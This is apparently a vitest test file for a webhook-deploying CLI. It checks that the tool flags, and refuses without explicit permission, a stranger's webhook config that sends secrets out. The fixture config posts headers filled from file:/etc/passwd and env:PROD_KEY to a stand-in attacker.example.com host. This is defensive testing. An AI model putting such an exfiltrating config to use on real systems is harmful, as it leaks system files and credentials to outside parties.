import { symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { addresses, codeScene } from '../../../test/code-scene.ts'
import { canaryKey } from '../../../test/run-cli.ts'

const terminal = { columns: 80, rows: 24 } as const

/** A webhook of a stranger's repository. Its headers take secrets of the machine that applies it. */
const stranger = (headers: Readonly<Record<string, string>>): string =>
  JSON.stringify({
    kind: 'webhooks',
    key: 'hook',
    name: 'Hook',
    type: 'GENERIC',
    url: 'https://attacker.example.com/collect',
    genericWebhook: {
      uuid: '8f0a4d9e-3c41-4d0e-9a39-4f3a5d2c1b00',
      method: 'POST',
      headers: Object.fromEntries(Object.entries(headers).map(([name, $secret]) => [name, { $secret }])),
    },
  })

const prodKey = 'the-key-of-production'
const bothHeaders = { 'X-A': 'file:/etc/passwd', 'X-B': 'env:PROD_KEY' }
const env = { PROD_KEY: prodKey }

test("the plan of a stranger's files names each secret with its destination", async () => {
  const scene = codeScene()
  scene.write('hook.yaml', stranger(bothHeaders))
  const text = await scene.run('plan', { env })
  expect(text.exitCode, text.stderr).toBe(3)
  expect(text.stdout).toContain('    sends file:/etc/passwd to https://attacker.example.com\n')
  expect(text.stdout).toContain('    sends env:PROD_KEY to https://attacker.example.com\n')
  const { stdout: markdown } = await scene.run('plan -o markdown', { env })
  expect(markdown).toContain('  - `sends file:/etc/passwd to https://attacker.example.com`\n')
  const addresses = ['https://attacker.example.com']
  expect(JSON.parse((await scene.run('plan -o json', { env })).stdout)).toMatchObject({
    changes: [
      {
        secrets: [
          { reference: 'file:/etc/passwd', addresses },
          { reference: 'env:PROD_KEY', addresses },
        ],
      },
    ],
  })
})

test.each(['--init', '--init --yes', '--init --yes --allow-env OTHER', '--init --yes --allow-files'])(
  "apply %s sends no secret of a stranger's files without a terminal, and the printed flags let it",
  async (flags) => {
    const scene = codeScene()
    scene.write('hook.yaml', stranger(bothHeaders))
    const refused = await scene.run(`apply ${flags}`, { env })
    expect(refused.exitCode).toBe(2)
    expect(refused.stderr).toContain('nothing was sent')
    expect(scene.requests()).toBe(0)
    const [, printed = ''] = /then add: (.+)/.exec(refused.stderr) ?? []
    const yes = flags.includes('--yes') ? '' : '--yes'
    expect(await scene.run(`apply ${flags} ${printed} ${yes}`, { env })).toMatchObject({ exitCode: 0 })
    scene.eu.settings.set({ maskSecrets: false })
    const { deployed } = (await scene.call(scene.eu, 'GET', webhooks)) as { deployed: [{ id: string }] }
    const sent = await scene.call(scene.eu, 'GET', `${webhooks}/${deployed[0].id}`)
    expect(sent).toMatchObject({ webhook: { genericWebhook: { headers: { 'X-B': prodKey } } } })
  },
)

const webhooks = '/5/integrations/webhooks/v1'

test('on a terminal, apply lists the secrets of files before it asks', async () => {
  const scene = codeScene()
  scene.write('hook.yaml', stranger(bothHeaders))
  const no = await scene.run('apply --init', { env, terminal, keys: 'n\r' })
  expect(no.exitCode).toBe(130)
  expect(no.stderr).toContain('  file:/etc/passwd to https://attacker.example.com\n')
  expect(no.stderr).toContain('Send 2 secrets? Make 1 change on target eu?')
  const one = await scene.run('apply --init --allow-files', { env, terminal, keys: 'y\r' })
  expect(one.stderr).toContain('Send 1 secret?')
  expect(one.exitCode).toBe(0)
})

test('a profile of the user allows variables and files, and mgmt.yaml cannot', async () => {
  const scene = codeScene()
  scene.write('hook.yaml', stranger(bothHeaders))
  const project = scene.read('mgmt.yaml')
  for (const field of ['allowEnv: [PROD_KEY]', 'allowFiles: true']) {
    scene.write('mgmt.yaml', project.replace('{ profile', `{ ${field}, profile`))
    const refused = await scene.run('apply --init --yes', { env })
    expect(refused).toMatchObject({ exitCode: 2, stderr: expect.stringContaining(field.split(':')[0] ?? '') as string })
  }
  scene.write('mgmt.yaml', project)
  const add = `profile add prod-eu --replace --base-url ${addresses.eu} --key-stdin --allow-env A,PROD_KEY --allow-files`
  expect(await scene.run(add, { stdin: canaryKey })).toMatchObject({ exitCode: 0 })
  const shown = await scene.run('profile show prod-eu -o json')
  expect(JSON.parse(shown.stdout)).toMatchObject({ allowEnv: ['A', 'PROD_KEY'], allowFiles: true })
  expect(await scene.run('apply --init --yes', { env })).toMatchObject({ exitCode: 0 })
})

test('a file of the repository needs no permission; one below a name with a dot, or behind a link that leads there, does', async () => {
  const scene = codeScene()
  scene.write('keys/token', 'a-token')
  scene.write('.git/config', 'a-secret')
  symlinkSync('../.git/config', join(scene.root, 'keys/link'))
  for (const path of ['.git/config', 'keys/link', 'keys/../.git/config']) {
    scene.write('hook.yaml', stranger({ 'X-A': `file:${path}` }))
    const refused = await scene.run('apply --init --yes')
    expect(refused).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('add: --allow-files\n') as string })
  }
  scene.write('hook.yaml', stranger({ 'X-A': 'file:keys/token' }))
  expect(await scene.run('apply --init --yes')).toMatchObject({ exitCode: 0 })
})

test.each([
  { name: 'MGMT_API_KEY', variables: { MGMT_API_KEY: 'another-key-of-a-platform' } },
  { name: 'the variable that a key command prints', variables: { SECOND_KEY: 'second' } },
  { name: 'another variable with the key in use', variables: { COPY: canaryKey } },
  { name: 'a variable with the key in its text', variables: { HEADER: `Bearer ${canaryKey}` } },
])('apply never sends $name, whatever is allowed', async ({ variables }) => {
  const scene = codeScene()
  const add = `profile add second --base-url ${addresses.us} --key-command`
  expect(await scene.run([...add.split(' '), 'printenv SECOND_KEY'])).toMatchObject({ exitCode: 0 })
  const [name = ''] = Object.keys(variables)
  scene.write('hook.yaml', stranger({ 'X-A': `env:${name}` }))
  const refused = await scene.run(`apply --init --yes --allow-env ${name}`, { env: variables })
  expect(refused.exitCode, refused.stderr).toBe(2)
  expect(refused.stderr).toContain('a key of the platform, which is never sent')
  expect(await scene.call(scene.eu, 'GET', webhooks)).not.toMatchObject({ deployed: [{}] })
  expect(refused.stderr + refused.stdout).not.toContain(canaryKey)
})
